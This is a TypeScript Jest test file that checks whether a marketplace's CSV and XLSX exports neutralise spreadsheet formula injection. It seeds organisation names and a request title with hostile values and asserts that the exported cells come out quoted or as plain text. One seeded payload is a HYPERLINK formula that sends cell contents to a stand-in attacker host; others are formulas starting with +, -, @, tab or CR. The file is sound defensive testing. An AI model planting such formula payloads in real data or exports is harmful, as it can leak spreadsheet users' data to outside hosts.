import ExcelJS from 'exceljs';
import { registerAccount } from '@jalin/testing';
import { AWARD, DealMarket, quoteInput, SUBMIT_QUOTE } from '../deals/deal-market';
import { profileInput, UPSERT_PROFILE } from '../../support/marketplace-builders';
import { parseCsv } from '../../support/parse-csv';
import { waitFor } from '../../support/wait-for';

jest.setTimeout(90000);

const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"Detail")';
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * OWASP CSV injection: names and titles that users write reach the Dinas's exports. Opened in a
 * spreadsheet program, none of them may run as a formula: in the CSVs every such cell starts with
 * a single quote, in the XLSX every such cell is a text cell (never a formula).
 */
describe('exports cannot run formulas', () => {
  let market: DealMarket;
  let dinasToken: string;
  const hostile = {
    buyer: HYPERLINK,
    title: '+62 Bracket =SUM(1+1)',
    ikms: ['@SUM(1+1) CV Las', '-2+3 CV Tekuk', '\t=1+1 CV Tab', '\r=1+1 CV Enter'],
  };

  beforeAll(async () => {
    market = await DealMarket.start('export_formula_injection');
    const buyer = await registerAccount(market.anonymous, { role: 'BUYER', organizationName: hostile.buyer });
    const ikms = [];
    for (const name of hostile.ikms) {
      const ikm = await registerAccount(market.anonymous, { role: 'IKM', organizationName: name });
      const profileId = (await ikm.client.ok(UPSERT_PROFILE, { input: profileInput() })).upsertMyProfile.id as string;
      ikms.push({ ...ikm, profileId });
    }
    // Registration trims names, so a leading tab or CR can only come from older rows or imports:
    // written here as such a row would be.
    for (const [i, ikm] of ikms.entries()) {
      if (/^[\t\r]/.test(hostile.ikms[i])) await market.run.sql.query(`UPDATE organization SET name = $2 WHERE id = $1`, [ikm.organizationId, hostile.ikms[i]]);
    }
    const rfqId = await market.matchedRfq(buyer.client, ikms, { title: hostile.title });
    const awards = [];
    for (const ikm of ikms) {
      const quote = (await ikm.client.ok(SUBMIT_QUOTE, { input: quoteInput(rfqId, { quantity: 250 }) })).submitQuote;
      awards.push({ quoteId: quote.id, quantity: 250 });
    }
    await buyer.client.ok(AWARD, { rfqId, awards });
    const dinas = await market.staff('DINAS');
    dinasToken = dinas.token!;
  });
  afterAll(async () => {
    await market?.stop();
  });

  const get = (path: string) => fetch(market.api.url.replace(/\/graphql$/, '') + path, { headers: { authorization: `Bearer ${dinasToken}` } });
  const csv = async (path: string) => {
    const response = await get(path);
    expect(response.status).toBe(200);
    return parseCsv((await response.text()).replace(/^\uFEFF/, ''));
  };

  /** Every cell that does not start safe; and each hostile text, found quoted. */
  const expectSafe = (rows: string[][], hostileTexts: string[]) => {
    const cells = rows.flat();
    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    for (const text of hostileTexts) expect(cells).toContain(`'${text}`);
  };

  it('deals.csv: RFQ titles and buyer and IKM names start safe', async () => {
    const rows = await csv('/exports/deals.csv?lang=en');
    expect(rows.length).toBe(1 + hostile.ikms.length);
    expectSafe(rows, [hostile.buyer, hostile.title, ...hostile.ikms]);
  });

  it('summary.csv: buyer names start safe', async () => {
    const rows = await waitFor('the deal in the dashboard figures', () => csv('/exports/summary.csv?lang=en'),
      (r) => r.flat().some((cell) => cell.includes('HYPERLINK')), { timeoutMs: 15000 });
    expectSafe(rows, [hostile.buyer]);
  });

  it('summary.xlsx keeps text as text: no formula cell, hostile names as strings', async () => {
    await waitFor('the deal in the dashboard figures', async () => (await csv('/exports/summary.csv')).flat().some((cell) => cell.includes('HYPERLINK')), Boolean, { timeoutMs: 15000 });
    const response = await get('/exports/summary.xlsx?lang=en');
    expect(response.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await response.arrayBuffer()) as any);
    const texts: string[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      expect(cell.formula).toBeFalsy();
      if (typeof cell.value === 'string') {
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        texts.push(cell.value);
      }
    })));
    // XML reads a lone CR as a line feed: the text is the same, still text.
    const normalized = (text: string) => text.replace(/\r/g, '\n');
    for (const text of [hostile.buyer, hostile.title, ...hostile.ikms]) expect(texts.map(normalized)).toContain(normalized(text));
  });
});
